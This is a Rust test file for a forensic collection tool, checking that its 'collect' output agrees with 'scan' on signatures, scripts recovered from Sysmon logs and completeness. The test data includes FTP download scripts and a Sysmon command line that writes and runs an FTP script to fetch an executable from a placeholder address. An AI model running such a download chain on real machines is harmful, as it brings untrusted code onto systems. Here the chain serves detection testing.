//! What `collect` copies and tells is what `scan` finds.

use crate::support::{program, scan_json, testdata};
use serde_json::Value;
use std::fs;
use std::path::Path;

/// The exit code, what was said, the manifest and the report of a collection.
fn collected(host: &Path, more: &[&str]) -> (Option<i32>, String, Value, Value) {
    let out = tempfile::tempdir().unwrap();
    let target = out.path().join("x");
    let done = program().arg("collect").arg(host).arg("-o").arg(&target).args(more).output().unwrap();
    let json = |name: &str| serde_json::from_slice(&fs::read(target.join(name)).unwrap()).unwrap();
    let (manifest, report): (Value, Value) = (json("manifest.json"), json("report.json"));
    for file in manifest["files"].as_array().unwrap() {
        let copied = fs::read(target.join(file["file"].as_str().unwrap())).unwrap();
        assert_eq!(file["size"], copied.len(), "{file}");
    }
    (done.status.code(), String::from_utf8(done.stdout).unwrap(), manifest, report)
}

/// Signatures were judged for no time, so that none was ever called valid.
#[test]
fn signatures_are_judged_as_by_a_scan() {
    let host = tempfile::tempdir().unwrap();
    let mut script = "open 192.0.2.1\r\nuser bob pw\r\n".to_owned();
    for name in ["valid.exe", "nested.exe", "expired.exe", "garbled.exe"] {
        fs::copy(testdata("signed").join(name), host.path().join(name)).unwrap();
        script.push_str(&format!("get {name}\r\n"));
    }
    fs::write(host.path().join("a.txt"), script + "bye\r\n").unwrap();
    let root = testdata("signed/root.pem");
    for trust in [&[][..], &["--trust-root", root.to_str().unwrap()]] {
        let (_, scanned) = scan_json(host.path(), trust);
        let (_, _, _, report) = collected(host.path(), trust);
        assert_eq!(report["payloads"], scanned["payloads"], "{trust:?}");
        let valid = report["payloads"].to_string().contains(r#""status":"valid""#);
        assert_eq!(valid, !trust.is_empty(), "{trust:?}");
    }
}

/// The record of a log was opened as a file: what was found was told to be missing, and its text was not copied.
#[test]
fn a_script_of_a_log_is_copied_as_the_log_tells_it() {
    let host = tempfile::tempdir().unwrap();
    let line = "cmd /c echo open 192.0.2.7>h.txt&echo user bob pw>>h.txt&echo get a.exe>>h.txt&ftp -n -s:h.txt";
    let event = serde_json::json!({ "Event": {
        "System": {
            "Provider": { "#attributes": { "Name": "Microsoft-Windows-Sysmon" } }, "EventID": 1, "EventRecordID": 1,
            "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "PC1",
            "TimeCreated": { "#attributes": { "SystemTime": "2024-05-12T10:00:00.000Z" } },
        },
        "EventData": {
            "UtcTime": "2024-05-12 10:00:00.000", "ProcessGuid": "{365ABB72-55F1-5CD8-0000-000000000002}", "ProcessId": 7,
            "Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": line, "CurrentDirectory": "C:\\t\\",
        },
    } });
    fs::write(host.path().join("sysmon.jsonl"), format!("{event}\n")).unwrap();
    let (code, said, manifest, report) = collected(host.path(), &[]);
    assert_eq!((code, &manifest["complete"]), (Some(0), &true.into()), "{said}");
    assert!(!said.contains("not complete"), "{said}");
    let files = manifest["files"].as_array().unwrap();
    for script in report["scripts"].as_array().unwrap() {
        let file = files.iter().find(|file| file["record"] == script["id"]);
        let file = file.unwrap_or_else(|| panic!("{script}"));
        assert_eq!((&file["source"], &file["sha256"]), (&script["source"], &script["sha256"]));
    }
    assert!(files.iter().any(|file| file["source"] == "event" && file["size"] == line.len()), "{manifest}");
}

/// What costs a scan nothing was called "not complete", at an exit code that said the contrary.
#[test]
fn completeness_is_told_once() {
    let host = tempfile::tempdir().unwrap();
    fs::write(host.path().join("a.txt"), "open 192.0.2.1\r\nuser bob pw\r\nget a.exe\r\nbye\r\n").unwrap();
    for number in 0..9 {
        fs::write(host.path().join(format!("z{number}.log")), "nothing").unwrap();
    }
    let again = host.path().to_str().unwrap();
    for (more, code, word) in [(&[again][..], 0, "noted: "), (&["--limit", "files=5"], 3, "not complete: ")] {
        let (told, said, manifest, report) = collected(host.path(), more);
        assert_eq!(told, Some(code), "{said}");
        assert_eq!(manifest["complete"], code == 0);
        assert_eq!(manifest["complete"], report["scan"]["complete"]);
        assert_eq!(said.matches(word).count(), report["errors"].as_array().unwrap().len(), "{said}");
        assert!(said.contains(word), "{said}");
    }
}
